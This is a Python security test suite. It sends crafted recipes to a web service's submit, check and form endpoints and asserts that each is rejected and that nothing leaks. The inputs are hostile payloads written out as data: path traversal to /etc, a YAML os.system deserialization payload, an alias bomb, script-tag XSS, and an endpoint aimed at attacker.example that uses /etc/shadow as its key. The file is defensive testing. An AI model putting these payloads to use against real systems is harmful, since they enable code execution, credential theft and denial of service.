"""Attacks by a recipe, through each door that takes one: submitting, checking, and the form of the page. The rules
themselves are in tests/service/policy/test_attacks.py."""

from __future__ import annotations

import json
from dataclasses import dataclass

import pytest
from httpx2 import Response

from tests.service.attacks.place import Place

JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Attack:
    name: str
    recipe: str
    status: int
    code: str
    """The problem's code. A check answers 200 with it as a mistake, unless the body is not read at all."""
    read: bool = True
    """Whether the body is short enough to be read."""


def _pool(path: str, more: str = "") -> str:
    return f"stages:\n  pool: {{op: acquire.folder, namespace: a, path: {path}}}\n{more}"


def _stage(line: str) -> str:
    return _pool("photos", f"  a: {{{line}, from: pool}}\n")


MINE = "{mine: {base_urls: ['https://attacker.example/v1'], model: m, key: 'file:/etc/shadow'}}"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
ATTACKS = [
    Attack("the whole disk", _pool("/"), 422, "policy"),
    Attack("up from a root", _pool("photos/../../etc"), 422, "policy"),
    Attack("a link out of a root", _pool("photos/out"), 422, "policy"),
    Attack("file://", _pool("file:///etc"), 422, "policy"),
    Attack("a trillion files", _pool("'photos/{0..999999999999}'"), 422, "policy"),
    Attack("a million files twice", _pool("'photos/{1..900000}'", "  b: {op: acquire.folder, namespace: b, path: "
           "'photos/x{1..900000}'}\n"), 422, "policy"),
    Attack("a pattern that is matched for days", _pool("'photos/*a*a*a*a*a*a*b.jpg'"), 422, "policy"),
    Attack("its own workspace", _pool("../main"), 422, "policy"),
    Attack("a function", _stage("op: 'os:system'"), 422, "policy"),
    Attack("a file as a key, for the attacker", _stage(f"op: caption.generate, endpoints: {MINE}"), 422, "policy"),
    Attack("an object", "a: !!python/object/apply:os.system [id]\n", 422, "policy"),
    Attack("an alias bomb", BOMB, 422, "policy"),
    Attack("the environment", "vars: {v: '${oc.env:PATH}'}\n" + _pool("photos"), 422, "invalid"),
    Attack("markup", _pool("'<script>alert(1)</script>'"), 422, "policy"),
    Attack("many stages", "stages:\n" + "".join(f"  s{n}: {{op: image.inspect}}\n" for n in range(1000)), 413,
           "too_large"),
    Attack("300 kB", _pool("x" * 300_000), 413, "too_large"),
    Attack("5 MB", _pool("x" * 5_000_000), 413, "too_large", read=False),
    Attack("a million stages", "stages: {" + "s," * 1_000_000, 413, "too_large", read=False),
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_attack(target: Place, attack: Attack) -> None:
    before, files = target.rows(), target.files()
    last = target.audit()[-1].id if target.audit() else 0
    target.log.lines.clear()
    operator = target.people.operator
    body = {"workspace": "main", "recipe": attack.recipe, "title": attack.name}
    submitted = target.ask("POST", "runs", operator, content=json.dumps(body), headers=JSON)
    assert (submitted.status_code, submitted.json()["code"]) == (attack.status, attack.code), submitted.text
    entries = [(one.action, one.outcome, one.user, one.workspace) for one in target.audit(last)]
    assert entries == ([("run.submit", attack.code, "operator", "main")] if attack.read else [])
    checked = target.ask("POST", "recipes/check", operator, headers=JSON,
                         content=json.dumps({"workspace": "main", "recipe": attack.recipe}))  # fmt: skip
    if attack.read:
        kinds = {one["code"] for one in checked.json()["mistakes"]}
        assert (checked.status_code, checked.json()["ok"]) == (200, False)
        assert kinds & {attack.code, "recipe"}
    else:
        assert checked.status_code == 413
    page = _by_page(target, attack.recipe)
    assert page.status_code == attack.status and "<script>alert" not in page.text
    assert (target.rows(), target.files()) == (before, files)
    everything = "".join([submitted.text, checked.text, page.text, *target.log.lines])
    assert not any(secret in everything for secret in ("root:x:", "PATH=", operator.token))


def _by_page(target: Place, recipe: str) -> Response:
    fields = {"workspace": "main", "recipe": recipe.encode("utf-8", "replace").decode(), "do": "submit"}
    return target.ask("POST", "/new", target.people.operator, data=fields)
